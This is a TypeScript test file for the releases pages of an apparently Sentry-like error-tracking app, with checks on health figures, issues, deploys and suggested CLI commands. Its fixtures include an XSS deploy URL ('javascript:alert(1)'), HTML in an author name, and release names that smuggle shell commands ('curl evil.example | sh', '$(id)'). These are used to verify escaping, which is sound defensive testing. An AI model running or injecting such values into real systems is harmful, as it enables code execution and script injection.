import assert from "node:assert/strict";
import { setCommits } from "@/lib/releases/commits.ts";
import { changeIssues, SYSTEM } from "@/lib/errors/mod.ts";
import { createDeploy } from "@/lib/releases/deploys.ts";
import { ensureRelease } from "@/lib/releases/releases.ts";
import { storedBundle } from "../../support/artifact_bundles.ts";
import { sessionCountsRecord, transactionRecord } from "../../support/records.ts";
import { failure, shop } from "../../support/shop.ts";
import { textOf } from "../../support/ui_app.ts";

const OLD = "shop@1.9.0";
const NEW = "shop@1.10.0";

/** A shop with two releases, of which the newer is deployed and worse. */
async function releasedShop() {
  const site = await shop();
  const { services: { sql, writer }, projectId, organization } = site;
  const now = new Date();
  await ensureRelease(sql, projectId, OLD);
  await ensureRelease(sql, projectId, NEW);
  await setCommits(sql, organization.id, projectId, NEW, [{
    id: "62aaca3186baa4b2",
    repository: "acme/shop",
    authorName: "Ann <b>",
    authorEmail: "ann@acme.example",
    message: "Pay in cents\n\nFixes SHOP-1",
    committedAt: now,
    files: [],
  }]);
  const deploy = { environment: "production", name: "", url: "javascript:alert(1)" };
  await createDeploy(sql, projectId, {
    ...deploy,
    version: NEW,
    startedAt: null,
    finishedAt: new Date(now.getTime() - 60_000),
  });
  const none = { userHash: null, errored: 0, unhandled: 0, abnormal: 0, startedAt: now };
  const calls = (release: string, ms: number) =>
    Array.from(
      { length: 12 },
      () => transactionRecord({ release, name: "GET /cart", durationMs: ms }),
    );
  const records = [
    sessionCountsRecord({ release: OLD, aggregates: [{ ...none, exited: 100, crashed: 0 }] }),
    sessionCountsRecord({ release: NEW, aggregates: [{ ...none, exited: 90, crashed: 10 }] }),
    ...calls(OLD, 100),
    ...calls(NEW, 300),
  ];
  await writer.commit(projectId, { records, outcomes: [] });
  await site.store(
    failure("PayError", { release: NEW }),
    failure("CartError", { release: OLD, timestamp: new Date(now.getTime() - 5_000) }),
  );
  const base = `/projects/${projectId}/releases`;
  return { ...site, base, page: async (path: string) => await site.owner.get(base + path) };
}

Deno.test("the list of releases is sorted by versions and searched", async () => {
  await using site = await releasedShop();
  const text = textOf((await site.page("?sort=-version")).html);
  assert.match(text, /shop@1\.10\.0 1 commits?.*50\.0% 90\.0%.*production.*shop@1\.9\.0/);
  assert.doesNotMatch(textOf((await site.page("?query=1.9")).html), /1\.10\.0 1 commit/);
  assert.match(textOf((await site.page("?query=zzz")).html), /No releases match/);
});

Deno.test("a release shows health, issues, commits, deploys and transactions against the version before", async () => {
  await using site = await releasedShop();
  // Between the two, but of another program.
  await ensureRelease(site.services.sql, site.projectId, "api@1.9.5");
  const { status, html } = await site.page(`/detail?version=${encodeURIComponent(NEW)}`);
  assert.equal(status, 200);
  const text = textOf(html);
  assert.match(text, /Crash-free sessions 90\.0%/);
  assert.match(text, /New issues.*PayError/);
  assert.match(text, /Pay in cents.*Ann <b>/);
  assert.match(text, /against shop@1\.9\.0.*GET \/cart/);
  assert.match(text, /shop@1\.10\.0 to production/);
  assert.doesNotMatch(html, /javascript:alert/);
  assert.doesNotMatch(html, /Ann <b>/);
  assert.equal((await site.page("/detail?version=nope")).status, 404);
  assert.equal((await site.page("/detail?version=%00")).status, 404);
});

/** The text of a page from one heading to the next. */
function between(html: string, from: string, to: string): string {
  const text = textOf(html);
  return text.slice(text.indexOf(from), text.indexOf(to, text.indexOf(from)));
}

Deno.test("a release lists what came back in it, what is resolved in it, and what was uploaded for it", async () => {
  await using site = await releasedShop();
  const { services: { sql }, projectId } = site;
  const OTHER = "shop@1.10.1";
  await ensureRelease(sql, projectId, OTHER);
  await site.store(
    failure("Back", { release: OLD }),
    failure("Back elsewhere", { release: OLD }),
    failure("Fixed", { release: OLD }),
    failure("Fixed next", { release: OLD }),
    failure("Fixed later", { release: OLD }),
  );
  const idOf = async (group: string) => {
    const [row] = await sql`select id::text as id from issues where title = ${`Error: ${group}`}`;
    return String(row?.id);
  };
  const resolve = async (group: string, to: object) =>
    await changeIssues({ sql }, projectId, [await idOf(group)], {
      status: { to: "resolved", in: to as { kind: "release"; version: string } },
    }, SYSTEM);
  await resolve("Back", { kind: "release", version: NEW });
  await resolve("Back elsewhere", { kind: "release", version: NEW });
  await resolve("Fixed", { kind: "release", version: NEW });
  await resolve("Fixed later", { kind: "release", version: OTHER });
  await sql`
    update issues set status = 'resolved', resolution = ${
    sql.json({ kind: "next", after: OLD })
  } where id = ${await idOf("Fixed next")}
  `;
  const bundleId = await storedBundle(sql, projectId, NEW);
  await storedBundle(sql, projectId, OLD);
  await site.store(
    failure("Back", { release: NEW }),
    failure("Back elsewhere", { release: OTHER }),
  );

  const { html } = await site.page(`/detail?version=${encodeURIComponent(NEW)}&range=1h`);
  const regressed = between(html, "Regressed issues", "Resolved issues");
  assert.match(regressed, /Back/);
  assert.doesNotMatch(regressed, /Back elsewhere/);
  const resolved = between(html, "Resolved issues", "Source maps");
  assert.match(resolved, /Fixed next/);
  assert.match(resolved, /Fixed /);
  assert.doesNotMatch(resolved, /Fixed later|Back/);
  const uploads = html.match(/settings\/source-maps\/[0-9a-f-]{36}/g);
  assert.deepEqual(uploads, [`settings/source-maps/${bundleId}`]);
  const list = /href="([^"]*issue\.id[^"]*)"/.exec(html)?.[1] ?? "";
  const opened = await site.owner.get(list.replaceAll("&amp;", "&"));
  assert.match(textOf(opened.html), /Back/);
});

Deno.test("deploys are marked on charts, and lead to their release", async () => {
  await using site = await releasedShop();
  const project = `/projects/${site.projectId}`;
  const [issue] = await site.services.sql`select min(id)::text as id from issues`;
  for (const path of ["/performance", "/logs", `/issues/${issue?.id}`]) {
    const { html } = await site.owner.get(project + path);
    const marked =
      /<a[^>]*href="([^"]*)"[^>]*(?:chart-mark|chart-flag)|<a[^>]*(?:chart-mark|chart-flag)[^>]*href="([^"]*)"/
        .exec(html);
    const href = (marked?.[1] ?? marked?.[2] ?? "").replaceAll("&amp;", "&");
    assert.equal(href, `${project}/releases/detail?version=${encodeURIComponent(NEW)}`, path);
    assert.match(html, /shop@1\.10\.0 to production/, path);
    // The Content Security Policy refuses these.
    assert.doesNotMatch(html, /<[^>]+\sstyle="/, path);
    assert.equal((await site.owner.get(href)).status, 200);
  }
});

Deno.test("charts of a release and of an issue mark the deploys of their package only", async () => {
  await using site = await releasedShop();
  const { services: { sql }, projectId } = site;
  await createDeploy(sql, projectId, {
    version: "api@7",
    environment: "production",
    name: "",
    url: "",
    startedAt: null,
    finishedAt: new Date(Date.now() - 30_000),
  });
  const [issue] = await sql`select min(id)::text as id from issues`;
  const issuePage = await site.owner.get(`/projects/${projectId}/issues/${issue?.id}`);
  const release = await site.page(`/detail?version=${encodeURIComponent(NEW)}`);
  for (const { html } of [issuePage, release]) {
    assert.match(html, /shop@1\.10\.0 to production/);
    assert.doesNotMatch(html, /api@7 to production/);
  }
  const { html } = await site.owner.get(`/projects/${projectId}/performance`);
  assert.match(html, /api@7 to production/);
});

Deno.test("a release whose package tells of no sessions has no adoption, which is not none of it", async () => {
  await using site = await releasedShop();
  const { services: { sql }, projectId } = site;
  for (const version of ["api@7", "shop@1.11.0"]) await ensureRelease(sql, projectId, version);
  const text = textOf((await site.page("?sort=-version")).html);
  assert.match(text, /shop@1\.11\.0 not heard of yet \S.*? 0\.0%/);
  assert.match(text, /api@7 not heard of yet just now – – –/);
});

Deno.test("two releases are compared by health, issues of one alone and transactions", async () => {
  await using site = await releasedShop();
  assert.match(textOf((await site.page("/compare")).html), /Choose two releases/);
  const search = new URLSearchParams({ base: OLD, version: NEW });
  const text = textOf((await site.page(`/compare?${search}`)).html);
  assert.match(text, /Crash-free sessions 100(?:\.0)?% 90\.0% 10\.0 points/);
  assert.match(
    text,
    /Issues only in shop@1\.10\.0.*PayError.*Issues only in shop@1\.9\.0.*CartError/,
  );
  assert.match(text, /GET \/cart/);
});

Deno.test("the newer of two compared releases is the release, the older what it is compared with", async () => {
  await using site = await releasedShop();
  const { html } = await site.page(`/compare?${new URLSearchParams({ base: OLD, version: NEW })}`);
  const chosen = (label: string) =>
    new RegExp(`>${label}<.*?<option[^>]* selected[^>]*>([^<]*)<`, "s").exec(html)?.[1];
  assert.equal(chosen("Release"), NEW);
  assert.equal(chosen("Compared with"), OLD);
});

Deno.test("names of releases stand at the left, and sort from the first, also where none is a version", async () => {
  await using site = await shop();
  await ensureRelease(site.services.sql, site.projectId, "nightly");
  const { html } = await site.owner.get(`/projects/${site.projectId}/releases`);
  const head = /<th[^>]*class="([^"]*)"[^>]*><a href="([^"]*)"[^>]*>Release</.exec(html);
  assert.match(head?.[1] ?? "", /text-left/);
  assert.match(head?.[2] ?? "", /sort=version/);
});

Deno.test("what a release lacks is said in one place, and no panel is there to say nothing", async () => {
  await using site = await releasedShop();
  const { services: { sql }, projectId } = site;
  await ensureRelease(sql, projectId, "tool@1.0.0");
  const bare = await site.page("/detail?version=tool%401.0.0");
  const headings = [...bare.html.matchAll(/<h2[^>]*>([^<]*)</g)].map(([, heading]) => heading);
  assert.deepEqual(headings, ["Not told yet"]);
  const text = textOf(bare.html);
  assert.match(text, /No sessions in this time\./);
  assert.match(
    text,
    /No issue was first seen in this release\. No issue came back in this release\. No issue is/,
  );
  assert.match(text, /Commits sentry-cli releases set-commits .*Deploys .*Source maps sentry-cli/);

  const told = textOf((await site.page(`/detail?version=${encodeURIComponent(NEW)}`)).html);
  assert.match(
    told,
    /Not told yet A build tells it [^.]*\. export .* make one\. Source maps sentry-cli/,
  );
});

Deno.test("a project without releases shows commands for this server, itself and its organization, and where their token is made", async () => {
  await using site = await shop({ baseUrl: "https://watch.example" });
  const path = `/projects/${site.projectId}/releases`;
  const { html } = await site.owner.get(path);
  assert.match(
    textOf(html),
    /export SENTRY_URL=https:\/\/watch\.example\s+export SENTRY_ORG=acme SENTRY_PROJECT=shop\s+export SENTRY_AUTH_TOKEN=…\s+VERSION=shop@1\.4\.0/,
  );
  assert.match(html, /<a class="link" href="\/organizations\/acme\/settings\/tokens">/);
  const { visitor } = await site.member("viewer");
  const seen = (await visitor.get(path)).html;
  assert.match(textOf(seen), /Members can make one\./);
  assert.doesNotMatch(seen, /settings\/tokens"/);
});

Deno.test("commands for a release name it, but for one whose name a shell reads otherwise", async () => {
  await using site = await shop();
  const told = async (version: string) => {
    await ensureRelease(site.services.sql, site.projectId, version);
    const search = new URLSearchParams({ version });
    return textOf(
      (await site.owner.get(`/projects/${site.projectId}/releases/detail?${search}`)).html,
    );
  };
  assert.match(await told("shop@1.2.0-rc+5"), /deploys new --release shop@1\.2\.0-rc\+5 -e prod/);
  for (const version of ["shop@1; curl evil.example | sh", "$(id)", "--help"]) {
    assert.match(await told(version), /deploys new --release VERSION -e prod/);
  }
});
